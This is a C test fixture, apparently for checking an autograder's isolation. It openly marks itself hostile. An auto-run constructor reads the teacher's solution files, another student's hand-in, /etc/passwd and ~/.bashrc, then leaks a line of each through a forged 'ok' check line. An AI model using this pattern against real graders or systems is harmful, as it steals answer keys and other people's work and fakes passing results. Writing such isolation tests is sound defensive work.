
/* hostile: read the teacher's files, the solution, the hidden values and other hand-ins,
 * and print them as check lines (which once went into the feedback). */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <dirent.h>
#include <string.h>
/* Another hand-in's copy, where the grader keeps them (/tmp/attn_hand_ins.*): "" when none is seen. */
static void hostile_other_copy(char *out, size_t cap, const char *rest) {
    out[0] = '\0';
    DIR *d = opendir("/tmp");
    if (d == NULL) return;
    for (struct dirent *e; (e = readdir(d)) != NULL;)
        if (strncmp(e->d_name, "attn_hand_ins.", 14) == 0) snprintf(out, cap, "/tmp/%s/0/%s", e->d_name, rest);
    closedir(d);
}
__attribute__((constructor)) static void hostile_reads(void) {
    char other[600];
    hostile_other_copy(other, sizeof other, "tree/ANSWERS.md");
    const char *paths[] = {"@ROOT@/tests/coursework/TEACHER.md", "@WORK@/teacher/solution-04.bin",
                           "@WORK@/teacher/solution/04_self_attention/chapters/04_self_attention/self_attention.c",
                           "@SUBS@/submission-04-complete.tar.gz", other,
                           "/etc/passwd", "@HOME@/.bashrc"};
    for (int i = 0; i < (int)(sizeof paths / sizeof paths[0]); i++) {
        if (!*paths[i]) continue;
        FILE *f = fopen(paths[i], "r");
        if (f) {
            char line[200] = "";
            if (fgets(line, sizeof line, f) == NULL) {}
            printf("ok 04.projections: LEAK %s\n", line);
            fprintf(stderr, "hostile: read %s\n", paths[i]);
            abort();
        }
    }
}
